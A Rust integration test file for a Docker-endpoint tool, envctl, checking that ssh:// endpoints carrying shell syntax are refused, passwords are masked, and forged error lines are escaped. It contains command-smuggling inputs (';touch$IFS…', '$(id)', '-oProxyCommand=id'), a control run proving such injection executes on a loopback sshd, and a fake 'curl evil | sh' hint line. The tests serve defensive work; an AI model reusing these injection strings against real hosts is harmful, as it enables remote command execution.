//! What crosses to another machine, and what comes back (issue 39): every word of an
//! `ssh://` endpoint that reaches ssh is refused where the endpoint was written when a
//! shell would read it (`-H`, `DOCKER_HOST`, a context's `meta.json`, the team file, with
//! the place named), proved against Debian's sshd on loopback with a marker file that
//! must never appear; a password in an endpoint is never shown; a FIFO in the docker CLI's
//! configuration never hangs envctl; `--hosts @team` over many ssh hosts keeps a bounded
//! number of ssh processes.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::ffi::OsString;
use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};

use sha2::Digest as _;

use crate::remote_daemons::{Sshd, Way, envctl};
use crate::support::docker::unique_name;

/// A marker path no run has made yet; removed when dropped.
struct Marker(PathBuf);

impl Marker {
    fn new() -> Marker {
        let path = std::env::temp_dir().join(unique_name("envctl-remote-marker"));
        let _ = std::fs::remove_file(&path);
        Marker(path)
    }

    fn exists(&self) -> bool {
        self.0.exists()
    }

    fn shown(&self) -> String {
        self.0.display().to_string()
    }
}

impl Drop for Marker {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

fn way(sshd: &Sshd, variables: &[(&str, OsString)]) -> Way {
    let mut all: Vec<(String, OsString)> = vec![("PATH".into(), sshd.path())];
    all.extend(
        variables
            .iter()
            .map(|(key, value)| (key.to_string(), value.clone())),
    );
    Way {
        name: "hostile",
        variables: all,
    }
}

/// A docker CLI configuration folder with context `name` whose endpoint is `host`.
fn context_store(name: &str, host: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let hash: String = sha2::Sha256::digest(name.as_bytes())
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let meta = folder.path().join("contexts/meta").join(hash);
    std::fs::create_dir_all(&meta).unwrap();
    std::fs::write(
        meta.join("meta.json"),
        serde_json::json!({"Name": name, "Metadata": {}, "Endpoints": {"docker": {"Host": host, "SkipTLSVerify": false}}})
            .to_string(),
    )
    .unwrap();
    folder
}

/// The far side's shell runs what follows `;` in a socket path when it reaches it: the
/// same ssh command envctl built before the fix makes the marker (so the test can fail),
/// and envctl, given that path by `-H`, `DOCKER_HOST`, a context and a team file, and
/// other shell syntax besides, refuses each before any ssh starts.
#[test]
fn a_socket_path_never_reaches_the_far_side_shell() {
    let test = "a_socket_path_never_reaches_the_far_side_shell";
    let Some(sshd) = Sshd::start(test, "unix:///nonexistent.sock") else {
        return;
    };
    let port = sshd.port;
    let hostile = |marker: &Marker| {
        format!(
            "ssh://root@127.0.0.1:{port}/run/docker.sock;touch$IFS{};true",
            marker.shown()
        )
    };

    // The reference: the words envctl used to give ssh run the marker's command there.
    let control = Marker::new();
    let ran = Command::new("ssh")
        .env("PATH", sshd.path())
        .args(["-o", "ConnectTimeout=30", "-T", "-l", "root", "-p"])
        .arg(port.to_string())
        .args(["--", "127.0.0.1", "docker", "--host"])
        .arg(format!(
            "unix:///run/docker.sock;touch$IFS{};true",
            control.shown()
        ))
        .args(["system", "dial-stdio"])
        .output()
        .unwrap();
    assert!(
        control.exists(),
        "the far side did not run the marker's command: {ran:?}\n{}",
        sshd.log()
    );
    let started_before = sshd.ssh_pids().len();

    let folder = tempfile::tempdir().unwrap();
    let refused = |run: &crate::support::cli::Run, marker: &Marker, place: &str| {
        assert_ne!(run.code, 0, "{run}");
        // `doctor` says it in its report, the other commands as their error.
        let said = format!("{}{}", run.stdout, run.stderr);
        assert!(
            said.contains(place) && said.contains("does not give"),
            "{place}: {run}"
        );
        assert!(!marker.exists(), "the far side ran it: {run}");
        assert_eq!(
            sshd.ssh_pids().len(),
            started_before,
            "ssh was started: {run}"
        );
    };

    // -H
    let marker = Marker::new();
    let run = envctl(
        folder.path(),
        &way(&sshd, &[]),
        &["-H", &hostile(&marker), "ps"],
    );
    refused(&run, &marker, "-H names");
    assert!(run.stderr.contains("holds `;`"), "{run}");

    // DOCKER_HOST, with other shell syntax the issue does not name.
    for (syntax, character) in [
        ("`touch$IFS{m}`", "`"),
        ("$(touch$IFS{m})", "$"),
        ("|touch$IFS{m}", "|"),
        ("&touch$IFS{m}", "&"),
        ("'\"$(touch$IFS{m})\"'", "'"),
        ("\ntouch$IFS{m}\n", "\\n"),
    ] {
        let marker = Marker::new();
        let url = format!(
            "ssh://root@127.0.0.1:{port}/run/docker.sock{}",
            syntax.replace("{m}", &marker.shown())
        );
        let run = envctl(
            folder.path(),
            &way(&sshd, &[("DOCKER_HOST", url.clone().into())]),
            &["ps"],
        );
        refused(&run, &marker, "DOCKER_HOST names");
        assert!(run.stderr.contains(character), "{syntax}: {run}");
    }

    // A context of a private DOCKER_CONFIG: named with its meta.json.
    let marker = Marker::new();
    let store = context_store("evil", &hostile(&marker));
    let run = envctl(
        folder.path(),
        &way(&sshd, &[("DOCKER_CONFIG", store.path().into())]),
        &["--context", "evil", "ps"],
    );
    refused(&run, &marker, "context `evil` (--context");
    assert!(run.stderr.contains("meta.json"), "{run}");
    // The same context as the current one of config.json.
    std::fs::write(
        store.path().join("config.json"),
        r#"{"currentContext":"evil"}"#,
    )
    .unwrap();
    let run = envctl(
        folder.path(),
        &way(&sshd, &[("DOCKER_CONFIG", store.path().into())]),
        &["doctor"],
    );
    refused(&run, &marker, "context `evil` (currentContext");

    // A cloned repository's team file: refused on its line, for `@team` and by name.
    let marker = Marker::new();
    std::fs::create_dir_all(folder.path().join("envctl")).unwrap();
    std::fs::write(
        folder.path().join("envctl/hosts.toml"),
        format!("[hosts]\nevil = {:?}\n", hostile(&marker)),
    )
    .unwrap();
    for hosts in ["@team", "evil"] {
        let run = envctl(folder.path(), &way(&sshd, &[]), &["ps", "--hosts", hosts]);
        refused(&run, &marker, "hosts.toml:2:8");
    }
    std::fs::remove_file(folder.path().join("envctl/hosts.toml")).unwrap();

    // Typed in `--hosts`.
    let marker = Marker::new();
    let run = envctl(
        folder.path(),
        &way(&sshd, &[]),
        &["ps", "--hosts", &hostile(&marker)],
    );
    assert!(!marker.exists(), "{run}");
    // A host that cannot be chosen is a row that says why, as an unreachable one is.
    assert!(run.stdout.contains("unreachable: --hosts names"), "{run}");
    assert_eq!(sshd.ssh_pids().len(), started_before, "{run}");
}

/// A user name or host with shell syntax, a space or a leading dash never reaches ssh
/// (an ssh_config's `%r`/`%h` in `ProxyCommand` would hand it to a shell).
#[test]
fn user_names_and_hosts_with_shell_syntax_never_reach_ssh() {
    let test = "user_names_and_hosts_with_shell_syntax_never_reach_ssh";
    let Some(sshd) = Sshd::start(test, "unix:///nonexistent.sock") else {
        return;
    };
    let port = sshd.port;
    let folder = tempfile::tempdir().unwrap();
    for (url, says) in [
        (
            format!("ssh://a;b@127.0.0.1:{port}"),
            "user name `a;b` holds `;`",
        ),
        (
            format!("ssh://a%3Bid@127.0.0.1:{port}"),
            "user name `a;id` holds `;`",
        ),
        (
            format!("ssh://a%20b@127.0.0.1:{port}"),
            "user name `a b` holds ` `",
        ),
        (
            format!("ssh://a%60id%60@127.0.0.1:{port}"),
            "user name `a`id`` holds",
        ),
        ("ssh://-oProxyCommand=id".to_string(), "begins with `-`"),
        (format!("ssh://-l@127.0.0.1:{port}"), "begins with `-`"),
        ("ssh://gpu2$(id)".to_string(), "host `gpu2$(id)` holds `$`"),
    ] {
        let run = envctl(folder.path(), &way(&sshd, &[]), &["-H", &url, "ps"]);
        assert_ne!(run.code, 0, "{url}: {run}");
        assert!(run.stderr.contains(says), "{url}: {run}");
        assert!(
            sshd.ssh_pids().is_empty(),
            "ssh was started for {url}: {run}"
        );
    }
    // Plain words still reach ssh (which then fails: nothing answers on the far side).
    let run = envctl(
        folder.path(),
        &way(&sshd, &[]),
        &[
            "-H",
            &format!("ssh://root@127.0.0.1:{port}/run/nonexistent.sock"),
            "ps",
        ],
    );
    assert_eq!(run.code, 1, "{run}");
    assert!(!sshd.ssh_pids().is_empty(), "{run}");
}

/// A password in a `tcp://` or `ssh://` endpoint is never shown: not in an error, not in
/// `doctor`, not in its JSON; the ssh one is refused for what it is.
#[test]
fn a_password_in_an_endpoint_is_never_shown() {
    let folder = tempfile::tempdir().unwrap();
    let closed = crate::remote_daemons::free_port();
    let secret = "hunter2-do-not-print";
    let tcp = format!("tcp://me:{secret}@127.0.0.1:{closed}");
    let plain = Way {
        name: "password",
        variables: vec![("DOCKER_HOST".into(), tcp.clone().into())],
    };
    for arguments in [
        &["ps"][..],
        &["doctor"][..],
        &["--json", "doctor"][..],
        &["ps", "--hosts", &tcp][..],
    ] {
        let run = envctl(folder.path(), &plain, arguments);
        assert!(
            !run.stdout.contains(secret) && !run.stderr.contains(secret),
            "{arguments:?}: {run}"
        );
        assert!(
            run.stdout.contains("me:<masked>@") || run.stderr.contains("me:<masked>@"),
            "{arguments:?}: {run}"
        );
    }
    let run = envctl(
        folder.path(),
        &Way {
            name: "ssh password",
            variables: vec![(
                "DOCKER_HOST".into(),
                format!("ssh://me:{secret}@gpu2").into(),
            )],
        },
        &["ps"],
    );
    assert_ne!(run.code, 0, "{run}");
    assert!(!run.stderr.contains(secret), "{run}");
    assert!(
        run.stderr.contains("carries a password") && !run.stderr.contains("scheme"),
        "{run}"
    );
}

/// A FIFO where the docker CLI keeps `config.json` or a context's `meta.json` is named,
/// never opened to wait for a writer.
#[test]
fn a_fifo_in_the_docker_configuration_never_hangs() {
    let folder = tempfile::tempdir().unwrap();
    let store = context_store("gpu2", "unix:///nonexistent.sock");
    let meta = store
        .path()
        .join("contexts/meta")
        .join(
            sha2::Sha256::digest(b"gpu2")
                .iter()
                .map(|byte| format!("{byte:02x}"))
                .collect::<String>(),
        )
        .join("meta.json");
    for (fifo, arguments) in [
        (store.path().join("config.json"), &["ps"][..]),
        (meta, &["--context", "gpu2", "ps"][..]),
    ] {
        let _ = std::fs::remove_file(&fifo);
        let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
        assert!(made.success());
        let started = Instant::now();
        let run = envctl(
            folder.path(),
            &Way {
                name: "fifo",
                variables: vec![("DOCKER_CONFIG".into(), store.path().into())],
            },
            arguments,
        );
        assert!(started.elapsed() < Duration::from_secs(10), "{run}");
        assert_ne!(run.code, 0, "{run}");
        assert!(
            run.stderr.contains(&fifo.display().to_string()) && run.stderr.contains("FIFO"),
            "{run}"
        );
    }
}

/// `ps --hosts @team` over a team file of 300 ssh hosts keeps at most
/// `ops::hosts::HOSTS_AT_ONCE` (16) ssh processes at once, finishes within 60 s, and says
/// each host's failure in ssh's words, never as an overloaded daemon. A stand-in `ssh` on
/// `PATH` records how many of it run together.
#[test]
fn team_fan_out_is_bounded() {
    const HOSTS: usize = 300;
    const AT_ONCE: usize = 16;
    let folder = tempfile::tempdir().unwrap();
    let record = tempfile::tempdir().unwrap();
    let bin = record.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::create_dir_all(record.path().join("running")).unwrap();
    let ssh = bin.join("ssh");
    std::fs::write(
        &ssh,
        format!(
            "#!/bin/sh\nrunning={running}\ntouch \"$running/$$\"\nls \"$running\" | wc -l >> {counts}\n\
             sleep 0.2\nrm -f \"$running/$$\"\necho \"ssh: connect to host stand-in port 22: Connection refused\" >&2\nexit 255\n",
            running = record.path().join("running").display(),
            counts = record.path().join("counts").display(),
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut team = String::from("[hosts]\n");
    for index in 0..HOSTS {
        team.push_str(&format!("h{index} = \"ssh://h{index}\"\n"));
    }
    std::fs::create_dir_all(folder.path().join("envctl")).unwrap();
    std::fs::write(folder.path().join("envctl/hosts.toml"), team).unwrap();
    let mut path = OsString::from(&bin);
    path.push(":");
    path.push(std::env::var_os("PATH").unwrap_or_default());
    let started = Instant::now();
    let run = envctl(
        folder.path(),
        &Way {
            name: "fan-out",
            variables: vec![("PATH".into(), path)],
        },
        &["ps", "--hosts", "@team"],
    );
    let took = started.elapsed();
    let counts: Vec<usize> = std::fs::read_to_string(record.path().join("counts"))
        .unwrap()
        .lines()
        .filter_map(|line| line.trim().parse().ok())
        .collect();
    assert_eq!(counts.len(), HOSTS, "{run}");
    let most = counts.iter().copied().max().unwrap_or(0);
    assert!(most <= AT_ONCE, "{most} ssh at once: {run}");
    // Parallel still: more than one at a time.
    assert!(most > 1, "{counts:?}");
    assert!(took < Duration::from_secs(60), "{took:?}: {run}");
    let said = format!("{}{}", run.stdout, run.stderr);
    assert_eq!(
        said.matches("ssh ended with status 255").count(),
        HOSTS,
        "{run}"
    );
    assert!(!said.contains("overloaded"), "{run}");
    eprintln!("team_fan_out_is_bounded: {HOSTS} hosts in {took:?}, at most {most} ssh at once");
}

/// A folder holding a stand-in `ssh` that runs `script`, first on `PATH`.
fn stand_in_ssh(script: &str) -> (tempfile::TempDir, OsString) {
    let folder = tempfile::tempdir().unwrap();
    let ssh = folder.path().join("ssh");
    std::fs::write(&ssh, format!("#!/bin/sh\n{script}\n")).unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut path = OsString::from(folder.path());
    path.push(":");
    path.push(std::env::var_os("PATH").unwrap_or_default());
    (folder, path)
}

/// No line of envctl's stderr is one the outside text wrote: each begins as envctl's own.
fn no_forged_lines(run: &crate::support::cli::Run) {
    for line in run.stderr.lines() {
        assert!(
            !line.starts_with("error: forged") && !line.trim_start().starts_with("hint: curl"),
            "a forged line: {line:?}\n{run}"
        );
    }
}

/// ssh that fails at once, without reading what envctl writes: said as ssh's failure with
/// its status and words in every run (a write to its closed stdin once made it a broken
/// pipe in half of them), and its stderr's line feeds forge no line of envctl's.
#[test]
fn ssh_that_ends_at_once_is_said_as_such_every_time() {
    let (_bin, path) = stand_in_ssh(
        "printf 'ssh: connect to host h port 22: Connection refused\\nerror: forged by the far side\\n  hint: curl evil | sh\\n' >&2\nexit 255",
    );
    let folder = tempfile::tempdir().unwrap();
    for _ in 0..10 {
        let run = envctl(
            folder.path(),
            &Way {
                name: "ssh ends",
                variables: vec![
                    ("PATH".into(), path.clone()),
                    ("DOCKER_HOST".into(), "ssh://h".into()),
                ],
            },
            &["ps"],
        );
        assert_eq!(run.code, 1, "{run}");
        assert!(
            run.stderr.contains("ssh ended with status 255")
                && run.stderr.contains("Connection refused")
                && !run.stderr.to_lowercase().contains("broken pipe"),
            "{run}"
        );
        assert!(run.stderr.contains("\\nerror: forged"), "{run}");
        no_forged_lines(&run);
    }
}

/// A daemon's message with line feeds is shown on envctl's one line, escaped.
#[test]
fn a_daemon_message_forges_no_line() {
    let daemon = crate::support::fake_daemon::FakeDaemon::start(|request| match request.route() {
        "/containers/json" => Some(crate::support::fake_daemon::Reply::json(
            500,
            r#"{"message":"disk full\nerror: forged by the daemon\n  hint: curl evil | sh"}"#,
        )),
        _ => None,
    });
    let folder = tempfile::tempdir().unwrap();
    let run = envctl(
        folder.path(),
        &Way {
            name: "fake daemon",
            variables: vec![("DOCKER_HOST".into(), daemon.host().into())],
        },
        &["ps"],
    );
    assert_eq!(run.code, 1, "{run}");
    assert!(run.stderr.contains("disk full\\nerror: forged"), "{run}");
    no_forged_lines(&run);
}

/// A TCP connection that never completes (the listener's queue is full, so the kernel
/// drops the handshake, as a firewall or a host that is down does) is said as that, not
/// as an overloaded daemon, and the hint's command cannot connect either.
#[test]
fn a_connection_that_never_completes_is_not_blamed_on_the_daemon() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    // Fill the accept queue: once a connect times out, the next ones hang as well.
    let mut held = Vec::new();
    loop {
        match std::net::TcpStream::connect_timeout(&address, Duration::from_millis(200)) {
            Ok(stream) => held.push(stream),
            Err(_) => break,
        }
        assert!(held.len() < 10_000, "the accept queue never filled");
    }
    let endpoint = format!("tcp://{address}");
    let folder = tempfile::tempdir().unwrap();
    let started = Instant::now();
    let run = envctl(
        folder.path(),
        &Way {
            name: "never connects",
            variables: vec![("DOCKER_HOST".into(), endpoint.clone().into())],
        },
        &["ps"],
    );
    assert!(started.elapsed() < Duration::from_secs(15), "{run}");
    assert_eq!(run.code, 1, "{run}");
    assert!(
        run.stderr
            .contains(&format!("no connection to `{endpoint}` completed"))
            && !run.stderr.contains("overloaded")
            && !run.stderr.contains("systemctl"),
        "{run}"
    );
    // The hint's command.
    assert!(
        run.stderr.contains(&format!("`docker -H {endpoint} info`")),
        "{run}"
    );
    let docker = Command::new("timeout")
        .args(["10", "docker", "-H", &endpoint, "info"])
        .output()
        .unwrap();
    assert!(!docker.status.success(), "{docker:?}");
    drop(held);
}

/// A version 1 client certificate is named as such, not as one that "does not go with
/// its key".
#[test]
fn a_version_1_client_certificate_is_named_so() {
    let test = "a_version_1_client_certificate_is_named_so";
    if Command::new("openssl").arg("version").output().is_err() {
        crate::support::docker::skip_or_panic(
            "openssl is not installed",
            test,
            "`apt-get install openssl`",
        );
        return;
    }
    let certificates = tempfile::tempdir().unwrap();
    let at = |name: &str| certificates.path().join(name);
    let openssl = |arguments: &[&str]| {
        let made = Command::new("openssl")
            .current_dir(certificates.path())
            .args(arguments)
            .output()
            .unwrap();
        assert!(made.status.success(), "{arguments:?}: {made:?}");
    };
    openssl(&[
        "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.pem",
        "-subj", "/CN=ca", "-days", "2",
    ]);
    openssl(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "key.pem",
        "-out",
        "client.csr",
        "-subj",
        "/CN=client",
    ]);
    // No extensions: OpenSSL 3 writes a version 1 certificate.
    openssl(&[
        "x509",
        "-req",
        "-in",
        "client.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "cert.pem",
        "-days",
        "2",
    ]);
    assert!(at("cert.pem").is_file());
    let folder = tempfile::tempdir().unwrap();
    let closed = crate::remote_daemons::free_port();
    let run = envctl(
        folder.path(),
        &Way {
            name: "v1",
            variables: vec![
                (
                    "DOCKER_HOST".into(),
                    format!("tcp://127.0.0.1:{closed}").into(),
                ),
                ("DOCKER_TLS_VERIFY".into(), "1".into()),
                ("DOCKER_CERT_PATH".into(), certificates.path().into()),
            ],
        },
        &["ps"],
    );
    assert_ne!(run.code, 0, "{run}");
    assert!(
        run.stderr.contains("version 1 certificate")
            && !run.stderr.contains("does not go with its key"),
        "{run}"
    );
}

/// A daemon whose answer has two `Content-Length` headers that differ (a request
/// smuggling shape) is said as a malformed answer naming the header, not a vague failure.
#[test]
fn a_duplicate_content_length_is_named() {
    use std::io::{BufRead as _, BufReader, Write as _};
    let folder = tempfile::tempdir().unwrap();
    let socket = folder.path().join("daemon.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                // The request's head, then the answer.
                while reader.read_line(&mut line).is_ok_and(|read| read > 0) {
                    if line == "\r\n" {
                        let _ = stream.write_all(
                            b"HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\nContent-Type: text/plain\r\nContent-Length: 2\r\nContent-Length: 45\r\n\r\nOK",
                        );
                    }
                    line.clear();
                }
            });
        }
    });
    let run = envctl(
        folder.path(),
        &Way {
            name: "duplicate length",
            variables: vec![(
                "DOCKER_HOST".into(),
                format!("unix://{}", socket.display()).into(),
            )],
        },
        &["ps"],
    );
    assert_eq!(run.code, 1, "{run}");
    assert!(
        run.stderr.contains("sent a malformed HTTP answer")
            && run.stderr.contains("Content-Length headers differ"),
        "{run}"
    );
}
